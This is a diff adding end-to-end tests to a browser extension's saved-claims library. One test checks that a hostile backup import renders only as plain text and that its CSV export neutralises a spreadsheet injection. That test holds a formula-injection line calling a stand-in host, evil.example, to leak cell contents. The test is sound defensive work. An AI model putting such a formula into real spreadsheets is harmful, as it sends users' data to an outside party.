@@ -106,6 +106,30 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     session.assertNoErrors();
   });
 
+  it('opens the page of a claim for "show in page"', async () => {
+    const popup = await session.openPopup();
+    const pageUrl = `${session.baseUrl}/seed/seed-original.html`;
+    await send(popup, 'claim/save', {
+      claim: claim(9, 'A claim to find again on its page.', 'Reuters'),
+      pageUrl,
+      pageTitle: 'Seed',
+    });
+    const [opened, answer] = await Promise.all([
+      session.context.waitForEvent('page', {
+        predicate: (p) => p.url().startsWith(pageUrl),
+        timeout: 15_000,
+      }),
+      send<{ ok?: boolean; error?: string }>(popup, 'claim/show-in-page', { id: 'browser-9' }),
+    ]);
+    expect(answer).toEqual({ ok: true });
+    expect(opened.url()).toBe(pageUrl);
+    await opened.close();
+    expect(
+      (await send<{ deleted: { id: string } }>(popup, 'claim/delete', { id: 'browser-9' })).deleted.id,
+    ).toBe('browser-9');
+    session.assertNoErrors();
+  });
+
   it('edits a note, and the change is stored', async () => {
     const popup = await session.openPopup();
     await popup.getByRole('tab', { name: 'Library' }).click();
@@ -207,6 +231,32 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     await popup.getByLabel('Search saved claims').fill('authority');
     await expect.poll(() => rows(popup).count()).toBe(1);
     fresh.assertNoErrors();
+  });
+
+  it('shows a hostile backup in the real popup only as text', async () => {
+    const hostile = await readFile(
+      new URL('../fixtures/hostile/hostile-backup.json', import.meta.url),
+      'utf8',
+    );
+    const popup = await fresh!.openPopup();
+    const result = await send<{ ok: boolean; added: number }>(popup, 'import', { content: hostile });
+    expect(result).toMatchObject({ ok: true, added: 6 });
+    await popup.reload();
+    await popup.getByRole('tab', { name: 'Library' }).click();
+    await expect.poll(() => rows(popup).count()).toBe(9);
+    await rows(popup).filter({ hasText: 'onerror' }).click();
+    const found = await popup.evaluate(() => ({
+      markup: document.querySelectorAll('main img, main script, main svg, main b, main i').length,
+      badLinks: [...document.querySelectorAll('a')].filter((a) => !/^https?:/.test(a.href)).length,
+      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
+    }));
+    expect(found).toEqual({ markup: 0, badLinks: 0, pwned: null });
+    await popup.getByRole('button', { name: 'Back to list' }).click();
+    const csv = await download(popup, 'CSV');
+    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
+    // The hostile claims go again, so the next test sees the three it imported.
+    for (let n = 1; n <= 6; n += 1) await send(popup, 'claim/delete', { id: `hostile-${n}` });
+    fresh!.assertNoErrors();
   });
 
   it('refuses a malformed backup and loses nothing', async () => {
